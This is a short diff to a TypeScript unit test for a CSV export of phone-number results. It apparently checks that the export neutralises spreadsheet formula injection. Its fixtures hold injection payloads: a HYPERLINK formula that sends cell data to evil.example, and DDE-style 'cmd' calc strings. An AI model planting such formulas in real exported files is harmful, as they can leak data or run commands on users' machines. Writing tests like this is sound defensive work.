@@ -37,7 +37,7 @@ describe('resultsCsv', () => {
     const link = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';
     const rows: BulkResultRow[] = [
       { line: 2, phone: link, outcome: 'invalid', uid: '', error: `"${link}" is not a phone number` },
-      { line: 3, phone: '923001234567', outcome: 'rejected', uid: '', error: '+cmd|\' /C calc\'!A0' },
+      { line: 3, phone: '923001234567', outcome: 'rejected', uid: '', error: "+cmd|' /C calc'!A0" },
       { line: 4, phone: '@SUM(1+1)*cmd', outcome: 'invalid', uid: '', error: '-2+3' },
     ];
     expect(parse(resultsCsv(rows))).toEqual([
